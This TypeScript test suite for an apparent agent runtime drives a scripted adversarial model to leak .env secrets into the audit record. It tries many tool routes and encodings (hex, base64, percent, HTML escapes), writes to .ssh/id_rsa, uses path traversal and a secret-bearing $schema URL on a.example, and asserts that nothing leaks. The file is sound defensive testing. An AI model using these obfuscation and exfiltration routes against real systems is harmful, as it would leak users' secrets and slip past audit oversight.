// Attacks with a secret that a person allowed to be read: its values by every route into the record, in every encoding.
import assert from "node:assert/strict";
import { readFileSync, statSync } from "node:fs";
import { suite, test } from "node:test";
import type { ModelAnswer, ModelRequest } from "../../src/abi/model.ts";
import { nodeDigests } from "../../src/host/node/digests.ts";
import { auditJson, auditText } from "../../src/views/record/audit.ts";
import { callsOf } from "../../src/views/record/calls.ts";
import { explainText } from "../../src/views/record/explain.ts";
import { receiptText } from "../../src/views/record/receipt.ts";
import { recordSourceOf, runJson } from "../../src/views/record/run.ts";
import { transcriptText } from "../../src/views/record/transcript.ts";
import { questionView } from "../../src/views/questions/question.ts";
import { english } from "../../src/views/words/translate.ts";
import { ALL, FAMILY, on, type Scratch } from "./scratch.ts";
import { Attacker, type Order, type Play } from "./attacker.ts";
import { kinds } from "../harness/kinds.ts";

/** Values as a person would have them in a file; none looks like the key of a provider. */
const VALUES = {
  DB_HOST_LINE: "rettich.kohl.example:5433/garten",
  SESSION_SALT: 'Gurke"<&>\\ mit/Salz+Öl',
  PLAIN_WORDS: "drei-rote-rueben-im-keller",
  SHORT_ONE: "mais4711",
} as const;
const ENV = [
  "NODE_ENV=production",
  `DB_HOST_LINE=${VALUES.DB_HOST_LINE}`,
  `SESSION_SALT='${VALUES.SESSION_SALT}'`,
  `export PLAIN_WORDS=${VALUES.PLAIN_WORDS}   # eaten in winter`,
  `SHORT_ONE=${VALUES.SHORT_ONE}`,
  "",
].join("\n");

const everyByte = (value: string, write: (byte: number) => string): string =>
  [...Buffer.from(value)].map(write).join("");
const hexOf = (n: number, digits = 2): string => n.toString(16).padStart(digits, "0");

/** How an agent may write a value so that a plain search does not find it. */
const ENCODINGS: Readonly<Record<string, (value: string) => string>> = {
  plain: (v) => v,
  "inside a word": (v) => `x${v}y`,
  hex: (v) => Buffer.from(v).toString("hex"),
  "hex in capitals": (v) => Buffer.from(v).toString("hex").toUpperCase(),
  base64: (v) => Buffer.from(v).toString("base64"),
  "base64 after one byte": (v) => Buffer.from(`:${v}:`).toString("base64"),
  "base64 after two bytes": (v) => Buffer.from(`u:${v}::`).toString("base64"),
  "base64 for addresses": (v) => Buffer.from(`?${v}`).toString("base64url"),
  "base64 in lines": (v) =>
    Buffer.from(`${"-".repeat(50)}${v}${"-".repeat(50)}`)
      .toString("base64")
      .replace(/.{76}/gu, "$&\n"),
  JSON: (v) => JSON.stringify(v).slice(1, -1),
  "JSON in JSON": (v) => JSON.stringify(JSON.stringify({ v })),
  "JSON, all escaped": (v) => [...v].map((c) => `\\u${hexOf(c.charCodeAt(0), 4)}`).join(""),
  percent: (v) => encodeURIComponent(v),
  "percent, all escaped": (v) => everyByte(v, (b) => `%${hexOf(b).toUpperCase()}`),
  "percent, twice": (v) => encodeURIComponent(encodeURIComponent(`a b ${v}`)),
  form: (v) => new URLSearchParams({ v }).toString(),
  HTML: (v) => v.replace(/[&<>"]/gu, (c) => `&#${c.charCodeAt(0)};`),
  "HTML by name": (v) =>
    v.replace(/[&<>"]/gu, (c) => `&${{ "&": "amp", "<": "lt", ">": "gt", '"': "quot" }[c] ?? ""};`),
  "HTML, all escaped": (v) => [...v].map((c) => `&#x${hexOf(c.charCodeAt(0))};`).join(""),
  "C escapes": (v) => everyByte(v, (b) => `\\x${hexOf(b)}`),
};

/** What each route calls with a text; each must leave the text out of the record. */
const ROUTES: Readonly<Record<string, (text: string, nth: number) => Order>> = {
  write_file: (text, n) => ({ tool: "write_file", args: { path: `out/${n}.txt`, content: `a ${text} b` } }),
  "edit_file, new": (text, n) => ({
    tool: "edit_file",
    args: { path: "plain.txt", old_text: n === 0 ? "plain" : `(${n - 1})`, new_text: `${text} (${n})` },
  }),
  "edit_file, old": (text) => ({
    tool: "edit_file",
    args: { path: "src/a.txt", old_text: text, new_text: "gone" },
  }),
  put_object: (text, n) => ({ tool: "put_object", args: { name: `o${n}`, value: { deep: [text] } } }),
  "put_object, key": (text, n) => ({ tool: "put_object", args: { name: `k${n}`, value: { [text]: 1 } } }),
  spawn_agent: (text) => ({ tool: "spawn_agent", args: { goal: `use ${text}`, grants: [] } }),
  send_message: (text) => ({ tool: "send_message", args: { to: 2, message: text } }),
  ask_human: (text) => ({ tool: "ask_human", args: { question: `is ${text} right?` } }),
  "a refused path": (text) => ({ tool: "read_file", args: { path: "README.md", nothing: text } }),
  "no such tool": (text) => ({ tool: "no_such_tool", args: { text } }),
  search_text: (text) => ({ tool: "search_text", args: { query: text.slice(0, 900) } }),
};

/** Answers with these turns; each is made of what the model saw before. */
function playing(turns: readonly ((request: ModelRequest) => string | readonly Order[])[]): Play["model"] {
  return (request): ModelAnswer => {
    const usage = { input: 1, output: 1 };
    const turn = request.pid === 2 ? turns[request.turn]?.(request) : undefined;
    if (turn === undefined || typeof turn === "string")
      return { text: turn ?? "", calls: [], usage, stop: "end" };
    const calls = turn.map(({ tool, args }, i) => ({ id: `call_${request.turn}_${i}`, tool, args }));
    return { text: "", calls, usage, stop: "calls" };
  };
}

const read = (path: string): Order => ({ tool: "read_file", args: { path } });

/** The texts in a line of the record, as they were before the line was JSON. */
function textsOf(line: string): string[] {
  const texts: string[] = [];
  const note = (key: string, value: unknown): unknown => {
    texts.push(key);
    if (typeof value === "string") texts.push(value);
    return value;
  };
  if (line.includes('{"v":1,')) JSON.parse(line.slice(line.indexOf("{")), note);
  return texts;
}

/** Everything that leaves: the files of the record, and each export of it, as one text. */
function leaves(scratch: Scratch, attacker: Attacker): string {
  const { kernel } = attacker.on;
  const { state } = kernel;
  const records = attacker.on.records();
  const rows = callsOf(records);
  const files = [...scratch.picture()]
    .filter(([path]) => path.startsWith("app/.agentlibos/"))
    .map(([, said]) => Buffer.from(said, "latin1").toString())
    .flatMap((text) => [text, ...text.split("\n").flatMap(textsOf)]);
  const source = recordSourceOf({
    kernel,
    records: attacker.on.records,
    head: attacker.on.head,
    opened: attacker.on.opened,
  });
  return [
    ...files,
    auditJson(rows),
    auditText(english, rows, state),
    ...rows
      .slice(-3)
      .map(
        (row) =>
          explainText(english, records, row.json.call, (said) => nodeDigests.sha256(said), kinds) ?? "",
      ),
    ...[...state.processes.values()].map((p) => transcriptText(english, state, records, p.pid)),
    receiptText(english, source, 2, "app"),
    JSON.stringify(runJson(source, [2])),
  ].join("\n");
}

/** Which values stand in a text: plainly, or as any of the encodings writes them. */
function found(text: string, values: Readonly<Record<string, string>> = VALUES): string[] {
  return Object.entries(values).flatMap(([name, value]) =>
    Object.entries(ENCODINGS)
      .filter(([, encode]) => text.includes(encode(value)))
      .map(([how]) => `${name}: ${how}`),
  );
}

suite("Q7: a secret that was allowed once", { concurrency: 4 }, () => {
  for (const [route, order] of Object.entries(ROUTES)) {
    test(`by ${route}, in ${Object.keys(ENCODINGS).length} encodings`, () =>
      on(async (scratch) => {
        scratch.put({ file: "app/.env", text: ENV });
        const texts = Object.values(ENCODINGS).flatMap((encode) => Object.values(VALUES).map(encode));
        const model = playing([
          () => [read(".env")],
          () => texts.map((text, n) => order(text, n)),
          () => `I saw ${texts.join(" and ")}.`,
        ]);
        const play = { grants: [...ALL, ...FAMILY], answer: "once" as const, ...(model && { model }) };
        const attacker = await Attacker.open(scratch, play);
        attacker.launch({ turns: [] }, play.grants);
        await attacker.on.kernel.rest();
        assert.ok(attacker.eyes.get("2.call_0_0")?.includes(VALUES.PLAIN_WORDS), "the model sees the file");
        assert.deepEqual(found(leaves(scratch, attacker)), []);
        if (route === "write_file")
          assert.equal(readFileSync(scratch.at("app/out/0.txt"), "utf8"), `a ${texts[0] ?? ""} b`);
        await attacker.close();
      }));
  }
});

/** The lines of a secret file that an agent itself writes: each is nowhere but in the file and before a person. */
const OWN = { OWN_LINE: "petersilie-und-dill-in-essig", OWN_SALT: "blumenkohl/9876+abc" } as const;
const OWN_ENV = Object.entries(OWN)
  .map(([name, value]) => `${name}=${value}\n`)
  .join("");

/** Ways to a secret file by which its new content could come into the record, and whether it is written. */
const WRITES: readonly (readonly [
  title: string,
  orders: readonly Order[],
  answer: "once" | "no",
  path?: string,
])[] = [
  ["written", [{ tool: "write_file", args: { path: ".env", content: OWN_ENV } }], "once", ".env"],
  ["refused", [{ tool: "write_file", args: { path: ".env", content: OWN_ENV } }], "no"],
  [
    "edited",
    [{ tool: "edit_file", args: { path: "./.env", old_text: "a\n", new_text: OWN_ENV } }],
    "once",
    ".env",
  ],
  ["found missing", [{ tool: "edit_file", args: { path: ".env", old_text: OWN_ENV, new_text: "a" } }], "no"],
  [
    "called wrongly",
    [
      { tool: "write_file", args: { path: "app/.env", content: OWN_ENV, mode: "600" } },
      { tool: "write_file", args: { file: "app/.ssh/id_rsa", content: OWN_ENV } },
      { tool: "write", args: { path: "../../.env", content: OWN_ENV } },
    ],
    "once",
  ],
  ["led out of the workspace", [{ tool: "write_file", args: { path: "../.env", content: OWN_ENV } }], "once"],
  [
    "in a folder that an earlier call went to",
    [
      { tool: "change_directory", args: { path: ".ssh" } },
      { tool: "write_file", args: { path: "known", content: OWN_ENV } },
    ],
    "once",
    ".ssh/known",
  ],
  [
    "written with an address that an editor would fetch",
    [
      {
        tool: "write_file",
        args: {
          path: ".env.json",
          content: `{"$schema": "https://a.example/?${OWN.OWN_LINE}=${OWN.OWN_SALT}"}`,
        },
      },
    ],
    "no",
  ],
  ["searched", [{ tool: "search_text", args: { path: ".env", query: OWN.OWN_LINE } }], "once"],
  [
    "made of an object",
    [
      { tool: "put_object", args: { name: "o", type: "text", value: "nothing-of-importance-4711\n" } },
      { tool: "object_to_file", args: { name: "o", path: ".env.new" } },
    ],
    "once",
  ],
];

suite("Q7: a secret file that an agent writes", { concurrency: 4 }, () => {
  for (const [title, orders, answer, path] of WRITES) {
    test(title, () =>
      on(async (scratch) => {
        scratch.put({ dir: "app/.ssh" });
        const model = playing([() => orders, () => (path === undefined ? "done" : `It was ${OWN_ENV}`)]);
        const play = { grants: ALL, answer, ...(model && { model }) };
        const attacker = await Attacker.open(scratch, play);
        attacker.launch({ turns: [] }, play.grants);
        await attacker.on.kernel.rest();
        assert.deepEqual(found(leaves(scratch, attacker), OWN), []);
        if (path !== undefined) assert.ok(readFileSync(scratch.at(`app/${path}`), "utf8").includes(OWN_ENV));
        await attacker.close();
      }),
    );
  }
});

/** Ways by which the content of the file comes to be known under another name, or without being read. */
const AROUND: readonly (readonly [title: string, orders: readonly (readonly Order[])[]])[] = [
  [
    "moved to a name that is no secret",
    [[{ tool: "move_file", args: { from: ".env", to: "settings.txt" } }], [read("settings.txt")]],
  ],
  [
    "edited without being read",
    [
      [
        {
          tool: "edit_file",
          args: { path: ".env", old_text: "NODE_ENV=production", new_text: "NODE_ENV=test" },
        },
      ],
    ],
  ],
  ["searched", [[{ tool: "search_text", args: { path: ".env", query: "=" } }]]],
  ["read in part", [[{ tool: "read_file", args: { path: ".env", start_line: 2, end_line: 5 } }]]],
];
for (const [title, orders] of AROUND) {
  test(`Q7: what was ${title} is not on record`, () =>
    on(async (scratch) => {
      scratch.put({ file: "app/.env", text: ENV });
      const said = `So it is ${Object.values(VALUES).join(" and ")}.`;
      const model = playing([...orders.map((each) => () => each), () => said]);
      const play = { grants: ALL, answer: "once" as const, ...(model && { model }) };
      const attacker = await Attacker.open(scratch, play);
      attacker.launch({ turns: [] }, play.grants);
      await attacker.on.kernel.rest();
      assert.deepEqual(
        attacker.came(2).map((came) => came.outcome),
        orders.flat().map(() => "ok"),
      );
      assert.deepEqual(found(leaves(scratch, attacker)), []);
      await attacker.close();
    }));
}

test("Q7: values are known after a restart, and lie beside the key, where nobody else can read them", () =>
  on(async (scratch) => {
    scratch.put({ file: "app/.env", text: ENV });
    const model = playing([
      () => [read(".env")],
      () => "done",
      () => `again ${Object.values(VALUES).join(" ")}`,
    ]);
    const play = { grants: ALL, answer: "once" as const, ...(model && { model }) };
    const first = await Attacker.open(scratch, play);
    const pid = first.launch({ turns: [] }, play.grants);
    await first.on.kernel.rest();
    await first.close();
    const again = await Attacker.open(scratch, play, "write");
    again.on.kernel.message(again.on.person, pid, `and ${VALUES.DB_HOST_LINE}`);
    again.on.kernel.resumeAll();
    await again.on.kernel.rest();
    assert.ok(again.on.kernel.state.processes.get(pid)?.turns === 3, "it went on");
    assert.deepEqual(found(leaves(scratch, again)), []);
    await again.close();
    const kept = [...scratch.picture().keys()].find((name) => /^home\/journals\/[^/]+\/values$/u.test(name));
    assert.ok(kept !== undefined && (statSync(scratch.at(kept)).mode & 0o077) === 0);
  }));

/** What the file holds before: text, which is compared, and bytes, beside which the request itself is shown. */
for (const before of ["TOKEN=zwiebel-4711-env-value a\n", "\0"]) {
  test(`Q7: a person reviews the real text over ${JSON.stringify(before)}, and a restart ends the request`, () =>
    on(async (scratch) => {
      scratch.put({ file: "app/.env", text: before });
      const order = { tool: "write_file", args: { path: ".env", content: OWN_ENV } };
      const model = playing([() => [order], () => "done"]);
      const play = { grants: ALL, answer: "open" as const, ...(model && { model }) };
      const first = await Attacker.open(scratch, play);
      const pid = first.launch({ turns: [] }, play.grants);
      await first.on.kernel.rest();
      const { kernel, person } = first.on;
      const asked = [...kernel.state.questions.values()][0]?.question;
      assert.ok(asked);
      const view = questionView(english, kernel, asked, kernel.previewOf(asked), person);
      assert.ok(view.content.includes(OWN.OWN_LINE) && view.content.includes(OWN.OWN_SALT), view.content);
      assert.deepEqual(found(JSON.stringify(asked), OWN), []);
      await first.close();
      const again = await Attacker.open(scratch, play, "write");
      again.on.kernel.resumeAll();
      await again.on.kernel.rest();
      const [came] = again.came(pid);
      assert.deepEqual([came?.code, came?.outcome], ["ESTALE", "not-run"]);
      assert.match(came?.message ?? "", /kept out of the record/u);
      assert.equal(readFileSync(scratch.at("app/.env"), "utf8"), before);
      await again.close();
    }));
}

test("Q7: words, resources and digests that are in a secret file, too, stay", () =>
  on(async (scratch) => {
    scratch.put({
      file: "app/.env",
      text: `NODE_ENV=production\nAPI_ROOT=${scratch.app}\nPLACE=deploy-to-garden-7\n`,
    });
    scratch.put({ file: "app/deploy-to-garden-7/notes.md", text: "for production\n" });
    const path = "deploy-to-garden-7/notes.md";
    const model = playing([() => [read(".env")], () => [read(path)], () => `production, in ${scratch.app}`]);
    const deny = "deny:write:fs:/app/deploy-to-garden-7/**";
    const play = { grants: [...ALL, deny], answer: "once" as const, ...(model && { model }) };
    const attacker = await Attacker.open(scratch, play);
    const pid = attacker.launch({ turns: [] }, play.grants);
    await attacker.on.kernel.rest();
    const [, second] = callsOf(attacker.on.records()).filter((row) => row.json.tool === "read_file");
    assert.deepEqual(second?.json.needs, [{ resource: `fs:/app/${path}`, right: "read" }]);
    assert.equal(attacker.on.kernel.state.processes.get(pid)?.seen?.size, 2);
    const said = leaves(scratch, attacker);
    assert.ok(said.includes(`production, in ${scratch.app}`));
    await attacker.close();
  }));
